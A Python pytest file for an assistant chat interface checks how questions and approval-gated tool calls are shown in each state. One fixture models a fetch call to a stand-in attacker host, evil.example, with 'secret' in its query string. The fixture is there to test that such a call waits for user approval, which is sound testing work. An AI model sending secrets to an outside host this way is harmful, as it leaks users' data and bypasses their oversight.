"""The questions of an answer as the page draws them: questions, calls that need approval, and their ends."""

import json
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any
from uuid import uuid4

import pytest

from leaf import parts
from leaf.services import chats
from leaf.state.live import LiveState
from leaf.views import activity, questions
from leaf.views.frames import Frame, framed
from leaf.views.rows import Items

OPTIONS = [{"value": "a", "label": "The first"}, {"value": "b", "label": "The second"}]
QUESTION: parts.Part = {
    "type": "tool-askQuestion",
    "toolCallId": "q",
    "state": "input-available",
    "input": {"question": "Which?", "options": OPTIONS},
}
FETCH: parts.Part = {
    "type": "tool-fetch",
    "toolCallId": "f",
    "state": "approval-requested",
    "input": {"url": "https://evil.example/?q=secret"},
    "approval": {"id": "f", "requestReason": "Leaf wants to open evil.example."},
}
TEXT: parts.Part = {"type": "text", "text": "One thing first.", "state": "done"}


def _shown(part: parts.Part) -> dict[str, Any]:
    return json.loads(questions.block(part))


def _answered(**output: Any) -> parts.Part:
    return {**QUESTION, "state": "output-available", "output": {"question": "Which?", **output}}


def _message(status: str, message_parts: list[parts.Part], **further: Any) -> chats.Message:
    now = datetime.now(UTC)
    return chats.Message(uuid4(), "assistant", status, message_parts, now, now, run_id=uuid4(), **further)


@pytest.mark.parametrize(
    ("part", "state"),
    [
        ({**QUESTION, "state": "input-streaming"}, "preparing"),
        (QUESTION, "open"),
        (_answered(selectedOptions=["b"], inputText="or so"), "answered"),
        (_answered(skipped=True), "skipped"),
        ({**QUESTION, "state": "output-error", "errorText": "You went on without answering."}, "unanswered"),
        (FETCH, "open"),
        ({**FETCH, "state": "approval-responded", "approval": {"id": "f", "approved": True}}, "allowed"),
        ({**FETCH, "state": "output-available", "approval": {"id": "f", "approved": True}, "output": {}}, "allowed"),
        ({**FETCH, "state": "output-denied", "approval": {"id": "f", "approved": False}}, "denied"),
        ({**FETCH, "state": "output-error", "errorText": "You went on without answering."}, "unanswered"),
    ],
)
def test_each_end_of_a_question_is_told(part: parts.Part, state: str) -> None:
    """# 002-17"""
    assert questions.is_asked(part)
    assert _shown(part)["state"] == state


def test_what_was_chosen_is_shown_with_the_question() -> None:
    shown = _shown(_answered(selectedOptions=["b"], inputText="or so"))
    assert (shown["question"], shown["chosen"], shown["said"]) == ("Which?", ["b"], "or so")
    assert shown["labels"] == "The second"
    assert [one["label"] for one in shown["options"]] == ["The first", "The second"]


def test_a_call_that_has_to_be_allowed_shows_what_would_leave() -> None:
    shown = _shown({**FETCH, "input": {"url": "https://evil.example", "deep": {"a": 1}, "long": "x" * 5000}})
    assert shown["reason"] == "Leaf wants to open evil.example."
    assert shown["input"][:2] == [
        {"name": "url", "value": "https://evil.example"}, {"name": "deep", "value": '{"a": 1}'},
    ]  # fmt: skip
    assert shown["input"][2]["value"].endswith("(3,000 more characters)")


def test_a_question_stands_in_its_place_and_is_no_step() -> None:
    search: parts.Part = {"type": "tool-search", "toolCallId": "s", "state": "output-available", "output": {}}
    items = Items().of([search, TEXT, QUESTION])
    assert [item.kind for item in items] == ["steps", "text", "asking"]
    assert "ask" not in items[0].text


def test_a_call_becomes_a_step_once_it_was_allowed() -> None:
    kinds = [[item.kind for item in Items().of([part])] for part in (
        FETCH,
        {**FETCH, "state": "approval-responded", "approval": {"id": "f", "approved": True}},
        {**FETCH, "state": "output-denied", "approval": {"id": "f", "approved": False}},
    )]  # fmt: skip
    assert kinds == [["asking"], ["asking", "steps"], ["asking"]]


def test_one_of_several_questions_shows_its_answer_while_the_other_waits() -> None:
    answers = {"q": {"output": {"question": "Which?", "selectedOptions": ["a"]}}, "f": {"approved": False}}
    told = questions.with_answers([QUESTION, FETCH, {**QUESTION, "toolCallId": "later"}], answers)
    assert [_shown(part)["state"] for part in told] == ["answered", "denied", "open"]


@pytest.mark.parametrize("given", [None, "text", [], {"options": "x"}, {"options": [1, {}, {"value": 5}]}])
def test_whatever_a_question_was_made_of_is_drawn(given: Any) -> None:
    shown = _shown({**QUESTION, "input": given})
    assert isinstance(shown["options"], list)


def test_while_it_waits_nothing_runs_and_the_live_region_says_so() -> None:
    assert activity.activity([TEXT, QUESTION]) == questions.ASKS
    assert activity.activity([TEXT, FETCH]) == questions.ASKS
    live = LiveState(_reflex_internal_init=True)  # type: ignore[call-arg]
    message = _message("streaming", [TEXT], user_id=uuid4())
    live.show(message)
    live.show(replace(message, status="waiting", parts=[TEXT, QUESTION]))
    assert (live.running, live.spoken, live.line) == (False, "Leaf asks you something.", "")
    assert live.asker == str(message.user_id)


def test_an_answer_that_goes_on_is_never_empty() -> None:
    """The text so far stays until the new run has sent as much."""
    live = LiveState(_reflex_internal_init=True)  # type: ignore[call-arg]
    waiting = _message("waiting", [TEXT, QUESTION])
    live.show(waiting)
    gone_on = _message("pending", [TEXT, QUESTION], answers={"q": {"output": {"skipped": True}}})
    live.show(gone_on)
    assert [item.kind for item in live.items] == ["text", "asking"]
    assert json.loads(live.items[1].blocks[0])["state"] == "skipped"
    items = Items(live=True)
    live.follow(framed(Frame(), items.of([TEXT]), [TEXT]), patient=False)
    assert len(live.items) == 2
    whole = [TEXT, _answered(skipped=True), {**TEXT, "text": "On."}]
    live.follow(framed(Frame(), items.of(whole), whole), patient=False)
    assert [item.blocks for item in live.items] == [[], [], []]
